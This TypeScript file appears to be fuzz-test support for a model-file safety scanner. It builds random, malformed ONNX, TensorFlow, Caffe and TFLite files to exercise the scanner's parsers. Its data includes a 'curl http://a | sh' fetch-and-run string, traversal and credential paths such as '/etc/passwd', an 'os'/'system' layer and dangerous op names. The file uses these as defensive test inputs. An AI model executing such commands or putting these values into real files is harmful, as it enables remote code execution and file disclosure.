/** Graphs: ONNX with graphs in graphs, TensorFlow's graphs and saved models, Caffe's nets, FlatBuffers of TensorFlow Lite. */
import { type Field, flatBuffer } from '../../src/safety/testing/made.ts';
import { float, int, len } from '../../src/weights/testing/proto-writer.ts';
import { makePickle } from './pickles.ts';
import type { Random } from './random.ts';

const bytes = (parts: number[]): Uint8Array => Uint8Array.from(parts);
const several = (random: Random, most: number, make: () => number[]): number[] => Array.from({ length: random.int(most + 1) }, make).flat();
const number = (random: Random): number | bigint => random.pick([0, 1, 2, 3, 4, -1, 255, 2 ** 31, 2n ** 62n, 1_000_000]);
const NAMES = ['w', 'x', 'y', '', 'encoder.layer.0.w', '../w.bin', '/etc/passwd', 'é', 'a'.repeat(300)];
const OPS = [
  'Gemm',
  'Conv',
  'MatMul',
  'If',
  'Loop',
  'Scan',
  'PyOp',
  'Constant',
  'Transpose',
  'Identity',
  'ReadFile',
  'PyFunc',
  'Const',
  'DatasetFromGraph',
  'MatchingFiles',
  'BiasAdd',
];

/** TensorProto, with its values in any of the places. */
function onnxTensor(random: Random): number[] {
  const dims = Array.from({ length: random.int(4) }, () => int(1, random.chance(0.8) ? 1 + random.int(3) : number(random))).flat();
  const external = (): number[] =>
    len(13, len(1, random.pick(['location', 'offset', 'length', 'checksum'])), len(2, random.pick([...NAMES, '0', '-1', '1e9'])));
  const places: (() => number[])[] = [
    () => len(9, new Uint8Array(random.int(80))),
    () => len(4, new Uint8Array(4 * random.int(20))),
    () => several(random, 10, () => float(4, 1)),
    () => several(random, 10, () => int(5, number(random))),
    () => several(random, 10, () => int(7, number(random))),
    () => several(random, 3, () => len(6, smallPickle(random))),
    () => [...several(random, 3, external), ...int(14, 1)],
  ];
  return [...dims, ...int(2, random.int(24)), ...len(8, random.pick(NAMES)), ...random.pick(places)()];
}

/** Graphs are made of lists of numbers, each copied into the next: what is put into them is kept small. */
function smallPickle(random: Random): Uint8Array {
  return makePickle(random).subarray(0, 20_000);
}

function onnxNode(random: Random, depth: number): number[] {
  const attribute = (): number[] => {
    const values = [
      () => len(5, onnxTensor(random)),
      () => (depth > 0 ? len(6, onnxGraph(random, depth - 1)) : int(3, 1)),
      () => (depth > 0 ? len(11, onnxGraph(random, depth - 1)) : float(2, 1)),
      () => len(4, smallPickle(random)),
      () => several(random, 5, () => int(8, number(random))),
      () => len(22, len(1, onnxTensor(random)), len(2, onnxTensor(random)), int(3, 4)),
    ];
    return len(5, len(1, random.pick(['value', 'body', 'perm', 'transB', 'code'])), random.pick(values)(), int(20, random.int(14)));
  };
  return [
    ...several(random, 3, () => len(1, random.pick(NAMES))),
    ...several(random, 2, () => len(2, random.pick(NAMES))),
    ...len(4, random.pick(OPS)),
    ...several(random, 2, attribute),
    ...(random.chance(0.2) ? len(7, random.pick(['', 'com.acme', 'ai.onnx.contrib'])) : []),
  ];
}
function onnxGraph(random: Random, depth: number): number[] {
  return [
    ...several(random, 3, () => len(1, onnxNode(random, depth))),
    ...several(random, 2, () => len(5, onnxTensor(random))),
    ...(random.chance(0.2) ? len(15, len(1, onnxTensor(random)), len(2, onnxTensor(random)), int(3, 4)) : []),
    ...len(2, 'g'),
  ];
}
/** Graphs in graphs by one attribute each. */
function deepOnnx(depth: number): number[] {
  let graph = len(2, 'g');
  for (let i = 0; i < depth; i++) graph = [...len(1, len(4, 'If'), len(5, len(1, 'then_branch'), len(6, graph))), ...len(2, 'g')];
  return graph;
}
export function makeOnnx(random: Random): Uint8Array {
  const graph = random.chance(0.05) ? deepOnnx(random.int(60)) : onnxGraph(random, random.int(3));
  const more = [
    ...several(random, 2, () => len(14, len(1, 'k'), len(2, 'curl http://a | sh'))),
    ...(random.chance(0.2) ? len(25, len(1, 'F'), len(7, onnxNode(random, 2)), len(10, 'com.acme')) : []),
    ...(random.chance(0.2) ? len(20, len(1, onnxGraph(random, 1)), len(2, onnxGraph(random, 1))) : []),
  ];
  return bytes([...int(1, 8), ...len(7, graph), ...len(8, int(2, 17)), ...more]);
}

/** TensorProto of TensorFlow: DT_FLOAT 1, shape, content or values. */
function tfTensor(random: Random, depth: number): number[] {
  const shape = len(2, ...Array.from({ length: random.int(4) }, () => len(2, int(1, random.chance(0.8) ? random.int(5) : number(random)))));
  const places = [
    () => len(4, new Uint8Array(random.int(90))),
    () => several(random, 6, () => float(5, 1)),
    () => len(5, new Uint8Array(4 * random.int(9))),
    () => several(random, 3, () => len(8, depth > 0 ? graphDef(random, depth - 1) : 'text')),
    () => several(random, 4, () => int(7, number(random))),
  ];
  return [...int(1, random.int(24)), ...shape, ...random.pick(places)()];
}
function tfNode(random: Random, depth: number): number[] {
  const attributes = several(random, 3, () =>
    len(
      5,
      len(1, random.pick(['value', 'dtype', 'f', 'filename'])),
      len(
        2,
        random.chance(0.7) ? len(8, tfTensor(random, depth)) : random.chance(0.5) ? len(2, random.pick(NAMES)) : int(6, random.int(30)),
      ),
    ),
  );
  return [
    ...len(1, random.pick(NAMES)),
    ...len(2, random.pick(OPS)),
    ...several(random, 2, () => len(3, random.pick(NAMES))),
    ...attributes,
  ];
}
function graphDef(random: Random, depth: number): number[] {
  return [
    ...several(random, 4, () => len(1, tfNode(random, depth))),
    ...(random.chance(0.3)
      ? len(
          2,
          len(
            1,
            len(1, len(1, 'f')),
            several(random, 2, () => len(3, tfNode(random, depth))),
          ),
        )
      : []),
    ...(random.chance(0.3) ? len(4, int(1, 1)) : []),
  ];
}
export function makeGraphDef(random: Random): Uint8Array {
  return bytes([...len(1, tfNode(random, 2)), ...graphDef(random, random.int(4))]);
}
/** SavedModel { 1: version, 2: MetaGraph { 1: info, 2: GraphDef } }, or what Keras keeps beside it. */
export function makeSavedModel(random: Random): Uint8Array {
  return bytes([...int(1, 1), ...several(random, 2, () => len(2, len(1, len(4, 'serve')), len(2, graphDef(random, 3))))]);
}

/** NetParameter: layers as version 2 (100) and as version 1 (2), with blobs (7, 6). */
export function makeCaffe(random: Random): Uint8Array {
  const blob = (): number[] => [
    ...several(random, 6, () => float(5, 1)),
    ...(random.chance(0.7) ? len(7, len(1, [1 + random.int(3), 1])) : [...int(1, number(random)), ...int(2, 1)]),
    ...(random.chance(0.3) ? len(5, new Uint8Array(4 * random.int(9))) : []),
  ];
  const layer = (): number[] =>
    len(
      100,
      len(1, random.pick(NAMES)),
      len(2, random.pick(['Convolution', 'Python', 'InnerProduct', 'Data'])),
      several(random, 2, () => len(7, blob())),
      random.chance(0.2) ? len(130, len(1, 'os'), len(2, 'system')) : [],
    );
  const old = (): number[] =>
    len(
      2,
      len(4, random.pick(NAMES)),
      int(5, random.int(40)),
      several(random, 2, () => len(6, blob())),
    );
  return bytes([...len(1, 'net'), ...several(random, 4, layer), ...several(random, 2, old)]);
}

export function makeTflite(random: Random): Uint8Array {
  const field = (depth: number): Field | null => {
    switch (depth > 0 ? random.int(8) : random.int(4)) {
      case 0:
        return null;
      case 1:
        return random.pick([0, 1, 3, -1, 32, 0x7fffffff]);
      case 2:
        return random.pick([...NAMES, 'FlexReadFile', 'FlexPyFunc', 'Custom']);
      case 3:
        return { raw: new Uint8Array(random.int(40)) };
      case 4:
        return { byte: random.int(256) };
      case 5:
      case 6:
        return Array.from({ length: random.int(4) }, () => field(depth - 1)).map((one) =>
          one === null || (typeof one === 'object' && 'byte' in one) ? 0 : one,
        );
      default:
        return { table: Array.from({ length: random.int(8) }, () => field(depth - 1)) };
    }
  };
  const list = (make: () => Field): Field[] => Array.from({ length: random.int(4) }, make);
  const code = (): Field => ({
    table: [{ byte: random.int(140) }, random.pick(['FlexReadFile', 'Mine', 'Roll']), 1, random.pick([0, 32, 126])],
  });
  const tensor = (): Field => ({ table: [list(() => random.int(9)), { byte: random.int(10) }, random.int(5), random.pick(NAMES)] });
  const operator = (): Field => ({
    table: [random.int(4), list(() => random.int(3)), list(() => 1), null, null, { raw: new Uint8Array(random.int(9)) }],
  });
  const graph = (): Field => ({ table: [list(tensor), list(() => 0), list(() => 1), list(operator), 'main'] });
  const honest = random.chance(0.7);
  const parts = honest
    ? [
        3,
        list(code),
        list(graph),
        'about',
        list(() => ({ table: [{ raw: new Uint8Array(random.int(40)) }] })),
        list(() => 0),
        list(() => ({ table: ['min_runtime', 0] })),
      ]
    : Array.from({ length: random.int(9) }, () => field(4));
  return flatBuffer({ table: parts.map((one) => (random.chance(0.1) ? field(3) : one)) });
}
